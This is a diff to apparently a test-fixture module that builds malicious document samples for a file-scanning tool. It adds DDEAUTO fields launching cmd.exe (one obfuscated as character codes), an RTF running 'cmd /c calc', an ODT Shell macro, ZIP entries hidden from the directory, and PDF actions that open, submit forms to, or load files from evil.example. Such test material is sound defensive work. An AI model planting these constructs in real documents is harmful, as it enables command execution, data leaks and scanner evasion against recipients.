@@ -49,10 +49,85 @@ def docx_with_links(*links):
     return docx(parts={"word/_rels/document.xml.rels": relations(*links)})
 
 
-def xlsx(formula):
-    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
+SLIDES = "application/vnd.openxmlformats-officedocument.presentationml"
+
+
+END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+
+
+def field(*parts):
+    """Return a Word field in runs: a text is its words, a tuple a field that stands in it, None its separator."""
+    runs = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>']
+    for part in parts:
+        if isinstance(part, tuple):
+            runs.append(field(*part))
+        elif part is None:
+            runs.append('<w:r><w:fldChar w:fldCharType="separate"/></w:r>')
+        else:
+            runs.append(f"<w:r><w:instrText>{part}</w:instrText></w:r>")
+    return "".join([*runs, END])
+
+
+SPELLED = field(("QUOTE 68 68 69 65 85 84 79", None), " c:\\\\cmd.exe", None)  # DDEAUTO in numbers
+
+
+def relation(kind, target="part.xml", base=RELATIONSHIPS):
+    """Return relationships with one inside of the package."""
+    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    return f'{head}<Relationship Id="r1" Type="{base}/{kind}" Target="{target}"/></Relationships>'
+
+
+def xlsx(formula="", parts=(), types=""):
     sheet = f'<worksheet><sheetData><row><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>'
-    return package({"[Content_Types].xml": content_types(main), "xl/worksheets/sheet1.xml": sheet})
+    return package({
+        "[Content_Types].xml": content_types(f"{SPREADSHEET}.sheet.main+xml", types),
+        "xl/worksheets/sheet1.xml": sheet,
+        **dict(parts),
+    })  # fmt: skip
+
+
+def sheet_with(xml):
+    return xlsx(parts={"xl/worksheets/sheet2.xml": f"<worksheet>{xml}</worksheet>"})
+
+
+def pptx(slide):
+    types = content_types(f"{SLIDES}.presentation.main+xml")
+    return package({"[Content_Types].xml": types, "ppt/slides/slide1.xml": f"<p:sld xmlns:p='p'>{slide}</p:sld>"})
+
+
+def hidden_entry():
+    """A part whose bytes are there, and which the directory does not know."""
+    out = io.BytesIO()
+    with ZipFile(out, "w") as target:
+        target.writestr("[Content_Types].xml", content_types())
+        target.writestr("a.html", "<script>alert(1)</script>")
+        target.writestr("word/document.xml", BODY.format(more=""))
+        target.filelist.remove(target.getinfo("a.html"))
+    return out.getvalue()
+
+
+def two_sizes():
+    """A part that is as long as its own header says, or as long as the directory says."""
+    data = bytearray(package({"[Content_Types].xml": content_types(), "word/document.xml": BODY}, ZIP_STORED))
+    at = data.index(b"word/document.xml") - 8
+    struct.pack_into("<L", data, at, 3)
+    return bytes(data)
+
+
+def odt(parts=()):
+    """An OpenDocument text, with a macro and a picture from elsewhere."""
+    body = '<draw:image xmlns:draw="d" xmlns:xlink="x" xlink:href="http://evil.example/a.png"/>'
+    return package({
+        "mimetype": "application/vnd.oasis.opendocument.text",
+        "content.xml": f"<office>{body}</office>",
+        "Basic/Standard/Module1.xml": "<module>Shell</module>",
+        **dict(parts),
+    }, ZIP_STORED)  # fmt: skip
+
+
+RTF = rb"{\rtf1{\object\objocx\objupdate{\*\objdata 0105000002000000}}{\field{\*\fldinst DDEAUTO cmd /c calc}}}"
+MHT = b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script>alert(1)</script>"
 
 
 def ofd(**parts):
@@ -173,6 +248,40 @@ def page_acts(document):
 def chained(document):
     shown = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[0], Next=pikepdf.Array([script(document)]))
     document.Root.OpenAction = shown
+
+
+def opens_an_address(document):
+    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/"))
+
+
+def goes_on_to_an_address(document):
+    address = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/"))
+    after = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage, Next=address))
+    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[0], Next=pikepdf.Array([after]))
+
+
+def linked(document, address="https://www.example.gov.cn/", **deed):
+    deed = deed or {"S": pikepdf.Name.URI, "URI": pikepdf.String(address)}
+    link = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=pikepdf.Dictionary(**deed)
+    )
+    document.pages[0].Annots = pikepdf.Array([link])
+
+
+def sends_a_form(document):
+    linked(document, S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/"))
+
+
+def draws_another_file(document):
+    form = document.make_stream(b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9])
+    form.Ref = pikepdf.Dictionary(F=pikepdf.String("//evil.example/a.pdf"), Page=0)
+    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))
+
+
+def reads_another_file(document):
+    stream = document.make_stream(b"")
+    stream.F = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("//evil.example/a"))
+    document.pages[0].Contents = stream
 
 
 def attaches(document):
